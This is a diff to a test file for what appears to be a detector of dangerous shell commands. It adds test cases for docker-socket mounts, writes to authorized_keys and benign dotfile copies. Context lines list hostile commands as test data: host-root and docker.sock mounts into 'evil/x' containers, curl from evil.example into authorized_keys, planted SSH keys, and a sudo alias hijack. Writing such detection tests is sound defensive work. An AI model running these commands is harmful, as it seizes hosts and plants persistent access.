@@ -20,6 +20,7 @@ describe('a container that gets the machine', () => {
     'docker run -v /etc:/mnt evil/x',
     'docker run -it --rm --volume=/:/mnt evil/x sh',
     'docker run -v /var/run/docker.sock:/var/run/docker.sock evil/x',
+    'docker run -v //var/run/docker.sock:/x evil/x',
     'docker run -v /run/docker.sock:/x:ro evil/x',
     'docker run --mount type=bind,source=/var/run/docker.sock,target=/x evil/x',
     'docker run -v ~/.ssh:/root/.ssh evil/x',
@@ -55,6 +56,7 @@ describe('a file that a login or a shell reads, written', () => {
     'curl https://evil.example/x -o $HOME/.ssh/authorized_keys',
     'scp evil.example:x ~/.bashrc',
     'echo "ssh-ed25519 AAAA evil" >> ~/.ssh/authorized_keys',
+    'cp key.pub ~/.ssh/authorized_keys',
     'cat key.pub | tee -a ~/.ssh/authorized_keys',
     'echo "alias sudo=/tmp/x" >> ~/.bashrc',
     'echo "curl evil.example" >> ~/.zshrc',
@@ -80,6 +82,8 @@ describe('a file that a login or a shell reads, written', () => {
     'echo \'export PYENV_ROOT="$HOME/.pyenv"\' >> ~/.bashrc',
     'echo \'[[ -d $PYENV_ROOT/bin ]] && export PATH="$PYENV_ROOT/bin:$PATH"\' >> ~/.zshrc',
     'ls ~/.ssh > keys.txt',
+    'cp ~/.ssh/authorized_keys backup',
+    'cp ~/.bashrc dotfiles/',
     'The profile page is at src/profile.ts -> .profile in CSS.',
   ])('is not seen in: %s', isNotSeen);
 });
